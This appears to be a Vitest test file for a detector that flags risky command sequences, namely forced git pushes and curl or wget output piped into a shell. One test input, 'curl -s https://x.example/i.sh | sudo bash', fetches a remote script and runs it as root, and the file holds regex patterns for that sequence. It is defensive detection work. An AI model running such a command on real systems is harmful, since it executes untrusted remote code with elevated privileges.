import { describe, expect, it } from 'vitest';
import { hasSequence } from '../../../../src/semantic/heuristic/sequence.js';

describe('a lead, then something later on the line', () => {
  const push = { lead: /\bgit\s+push\s/, then: /--force\b|-f\b/ };
  const pipe = { lead: /\b(curl|wget)\b/, then: /^\s*(sudo\s+)?(ba|z)?sh\b/, pipe: true };

  it('finds the second part anywhere after the first on the same line', () => {
    expect(hasSequence('git push origin main --force', push)).toBe(true);
    expect(hasSequence('git push origin main', push)).toBe(false);
    expect(hasSequence('git push origin main\necho --force', push)).toBe(false);
    expect(hasSequence('--force; git push origin', push)).toBe(false);
  });

  it('with pipe, finds the command right after the pipe that follows the lead', () => {
    expect(hasSequence('curl -s https://x.example/i.sh | sudo bash', pipe)).toBe(true);
    expect(hasSequence('curl -s https://x.example/i.sh | tee f | sh', pipe)).toBe(false);
    expect(hasSequence('curl x || sh', pipe)).toBe(false);
    expect(hasSequence('echo a | sh; curl x', pipe)).toBe(false);
  });

  it('reads a line of a million leads once', () => {
    expect(hasSequence('git push '.repeat(100_000), push)).toBe(false);
    expect(hasSequence('curl '.repeat(200_000), pipe)).toBe(false);
  });
});
